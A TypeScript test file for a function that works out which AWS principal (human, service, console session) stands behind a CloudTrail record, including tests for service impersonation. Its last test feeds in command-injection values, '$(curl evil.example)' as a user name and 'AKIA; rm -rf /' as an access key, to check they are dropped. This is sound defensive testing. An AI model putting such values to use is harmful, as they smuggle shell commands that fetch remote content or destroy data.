/** Who is behind a call: above all, that nobody passes for a service by a name of their own choice. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { principalOf } from '../../../lambda/events/principal.ts';
import { account, cloudTrailRecord, identities } from '../../support/events.ts';

type Json = Record<string, unknown>;
const by = (
  userIdentity: Json,
  parts: { sourceIp?: string; userAgent?: string; eventName?: string; more?: Json } = {},
) => principalOf(cloudTrailRecord({ eventName: 'RunInstances', ...parts, userIdentity }));

describe('humans', () => {
  it('are IAM users, by name and access key', () => {
    expect(by(identities.user('eve'))).toEqual({
      kind: 'user',
      key: `arn:aws:iam::${account}:user/eve`,
      arn: `arn:aws:iam::${account}:user/eve`,
      name: 'eve',
      accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
      sourceIp: '203.0.113.7',
      userAgent: 'aws-cli/2.31.0',
      isHuman: true,
    });
  });

  it('are role sessions, counted by the role: the session’s name is the caller’s choice', () => {
    const [one, two] = ['a', 'b'].map((session) => by(identities.role('deployer', session)));
    expect(one).toMatchObject({ kind: 'role', name: 'deployer', sessionName: 'a', isHuman: true });
    expect(one?.key).toBe(`arn:aws:iam::${account}:role/deployer`);
    expect(two?.key).toBe(one?.key);
    const { sessionContext: _, ...bare } = identities.role('deployer', 'c');
    expect(by(bare).key).toBe(one?.key);
  });

  it('are people of IAM Identity Center, under their role and by their own name', () => {
    const name = 'AWSReservedSSO_Admin_0123456789abcdef';
    expect(by(identities.role(name, 'alice@example.com'))).toMatchObject({
      kind: 'role',
      name,
      sessionName: 'alice@example.com',
      isHuman: true,
    });
  });

  it('are root, and federated users of every kind', () => {
    expect(by(identities.root())).toMatchObject({ kind: 'root', key: `arn:aws:iam::${account}:root`, isHuman: true });
    const arn = `arn:aws:sts::${account}:federated-user/bob`;
    const issuer = { sessionIssuer: { type: 'IAMUser', userName: 'broker' } };
    expect(by({ type: 'FederatedUser', arn, accountId: account, sessionContext: issuer })).toMatchObject({
      kind: 'federated',
      key: arn,
      name: 'broker',
      sessionName: 'bob',
      isHuman: true,
    });
    for (const type of ['SAMLUser', 'WebIdentityUser', 'IdentityCenterUser']) {
      expect(by({ type, userName: 'carol', accountId: account })).toMatchObject({ kind: 'federated', isHuman: true });
    }
  });

  it('are callers from other accounts; a record without any identity is nobody', () => {
    expect(by({ type: 'AWSAccount', accountId: '999988887777', principalId: 'AIDAX' })).toMatchObject({
      kind: 'unknown',
      isHuman: true,
    });
    expect(principalOf({})).toEqual({ kind: 'unknown', key: 'unknown', isHuman: false });
  });

  it('are known by their ARN where the type was lost', () => {
    const { type: _, ...bare } = identities.user('eve');
    expect(by(bare)).toMatchObject({ kind: 'user', name: 'eve' });
  });
});

describe('services', () => {
  it('stand behind a call that they invoked, whoever it is signed for', () => {
    const root = { ...identities.root(), invokedBy: 'autoscaling.amazonaws.com' };
    expect(by(root)).toMatchObject({ kind: 'service', key: 'autoscaling.amazonaws.com', isHuman: false });
    expect(by(root)).toHaveProperty('actsFor', `arn:aws:iam::${account}:root`);
  });

  it('act through service-linked roles, also where invokedBy is missing', () => {
    const { invokedBy: _, ...identity } = identities.serviceRole();
    expect(by(identity)).toMatchObject({ kind: 'service', service: 'autoscaling.amazonaws.com' });
    expect(by(identity)).not.toHaveProperty('actsFor');
  });

  it('act alone under a role that was given to them, and name it', () => {
    expect(by({ ...identities.role('codepipeline'), invokedBy: 'codepipeline.amazonaws.com' })).toMatchObject({
      kind: 'service',
      key: 'codepipeline.amazonaws.com',
      actsFor: `arn:aws:iam::${account}:role/codepipeline`,
      isHuman: false,
    });
  });

  it('call from their own host, or as themselves', () => {
    expect(by(identities.user(), { sourceIp: 'autoscaling.amazonaws.com' }).isHuman).toBe(false);
    expect(by({ type: 'AWSService' }, { sourceIp: 'spot.amazonaws.com' })).toMatchObject({ key: 'spot.amazonaws.com' });
  });

  it('are Karpenter where EKS issued the session and the agent says so', () => {
    const provider = (host: string) => ({
      ...identities.role('KarpenterController'),
      sessionContext: {
        sessionIssuer: { type: 'Role', arn: `arn:aws:iam::${account}:role/KarpenterController` },
        webIdFederationData: { federatedProvider: `arn:aws:iam::${account}:oidc-provider/${host}/id/0A1B` },
      },
    });
    const eks = 'oidc.eks.eu-west-1.amazonaws.com';
    const userAgent = 'aws-sdk-go-v2/1.36 karpenter.sh-1.5.0';
    const fleet = { eventName: 'CreateFleet', userAgent };
    expect(by(provider(eks), fleet)).toMatchObject({ service: 'karpenter', isHuman: false });
    expect(by(identities.role('KarpenterController'), fleet).isHuman).toBe(true);
    expect(by(provider(eks), { ...fleet, userAgent: 'Boto3/1.40' }).isHuman).toBe(true);
    expect(by(provider('oidc.eks.evil.example'), fleet).isHuman).toBe(true);
    expect(by(provider(`evil.example/${eks}`), fleet).isHuman).toBe(true);
    expect(by(provider(eks), { ...fleet, eventName: 'RequestSpotFleet' }).isHuman).toBe(true);
  });
});

describe('people through a service', () => {
  it.each([
    ['named by invokedBy', { invokedBy: 'cloudformation.amazonaws.com' }, '203.0.113.7'],
    ['known by its host alone', {}, 'cloudformation.amazonaws.com'],
  ])('are who they are, whatever called on for them: %s', (_, invoked, sourceIp) => {
    const through = 'cloudformation.amazonaws.com';
    const at = { sourceIp };
    expect(by({ ...identities.user('eve'), ...invoked }, at)).toMatchObject({
      kind: 'user',
      name: 'eve',
      isHuman: true,
      through,
    });
    expect(by({ ...identities.root(), ...invoked }, at)).toMatchObject({ kind: 'root', isHuman: true, through });
    expect(by({ ...identities.role('deployer'), ...invoked }, at)).toMatchObject({
      kind: 'role',
      key: `arn:aws:iam::${account}:role/deployer`,
      isHuman: true,
      through,
    });
  });

  it('are so for services that nobody has heard of, and for what AWS calls its own behind a role', () => {
    const found = by({ ...identities.user(), invokedBy: 'new.amazonaws.com' });
    expect(found).toMatchObject({ kind: 'user', isHuman: true, through: 'new.amazonaws.com' });
    const role = by({ ...identities.role(), invokedBy: 'AWS Internal' });
    expect(role).toMatchObject({ kind: 'role', isHuman: true, through: 'AWS Internal' });
  });

  it.each(['AWS Internal', 'signin.amazonaws.com'])('are in the console where it signs as %s', (invokedBy) => {
    for (const identity of [identities.user(), identities.root()]) {
      const found = by({ ...identity, invokedBy });
      expect(found).toMatchObject({ isHuman: true });
      expect(found).not.toHaveProperty('through');
    }
  });
});

describe('disguises', () => {
  it.each([
    'autoscaling.amazonaws.com',
    'karpenter.sh-1.5.0',
    'AWS Internal',
    'cloudformation.amazonaws.com',
    'APN/1.0 HashiCorp/1.0 Terraform/1.9',
  ])('a user agent of %s leaves a human human', (userAgent) => {
    for (const identity of [identities.user(), identities.root(), identities.role()]) {
      expect(by(identity, { userAgent }).isHuman).toBe(true);
    }
  });

  it('a role that only has the name of a service-linked one is a human’s', () => {
    expect(by(identities.role('AWSServiceRoleForAutoScaling', 'AutoScaling')).isHuman).toBe(true);
    expect(by(identities.role('x', 'aws-service-role')).isHuman).toBe(true);
    const { sessionContext: _, ...bare } = identities.role('AWSServiceRoleForAutoScaling', 'AutoScaling');
    expect(by(bare).isHuman).toBe(true);
  });

  it('a session named like a service is a human’s', () => {
    expect(by(identities.role('deployer', 'autoscaling.amazonaws.com')).isHuman).toBe(true);
  });

  it('an instance’s host name is not a service’s', () => {
    expect(by(identities.user(), { sourceIp: 'ec2-203-0-113-7.compute-1.amazonaws.com' }).isHuman).toBe(true);
  });
});

describe('the console', () => {
  it('is known by its session credentials, and a person stands behind its own front ends', () => {
    expect(by(identities.role(), { more: { sessionCredentialFromConsole: 'true' } }).console).toBe(true);
    expect(by({ ...identities.role(), invokedBy: 'signin.amazonaws.com' })).toMatchObject({
      isHuman: true,
      console: true,
    });
    expect(by(identities.role(), { sourceIp: 'AWS Internal', userAgent: 'AWS Internal' })).toMatchObject({
      isHuman: true,
      console: true,
    });
    expect(by(identities.role(), { userAgent: 'console.ec2.amazonaws.com' }).console).toBe(true);
  });

  it('is not believed of a long-term access key, or else the mail would not say to cut the key off', () => {
    expect(by(identities.user(), { userAgent: 'console.amazonaws.com' })).not.toHaveProperty('console');
    expect(by(identities.role())).not.toHaveProperty('console');
  });
});

describe('any record', () => {
  it('has a principal, and every text of it is short', () => {
    const identity = fc.dictionary(
      fc.constantFrom(
        'type',
        'arn',
        'userName',
        'accountId',
        'accessKeyId',
        'invokedBy',
        'principalId',
        'sessionContext',
      ),
      fc.oneof(fc.jsonValue(), fc.string({ maxLength: 20_000, size: 'max' }), fc.constant('AssumedRole')),
    );
    fc.assert(
      fc.property(identity, fc.jsonValue(), fc.jsonValue(), (userIdentity, sourceIPAddress, userAgent) => {
        const principal = principalOf({ userIdentity, sourceIPAddress, userAgent });
        const texts = Object.values(principal).filter((value) => typeof value === 'string');
        return principal.key.length > 0 && principal.key.length <= 512 && texts.every((one) => one.length <= 1_024);
      }),
    );
  });

  it('gives a name only where it is one that IAM allows, since it goes into a command', () => {
    const name = '$(curl evil.example)';
    expect(by({ ...identities.user(name), userName: name })).not.toHaveProperty('name');
    expect(by({ ...identities.user('eve'), accessKeyId: 'AKIA; rm -rf /' })).not.toHaveProperty('accessKeyId');
  });
});
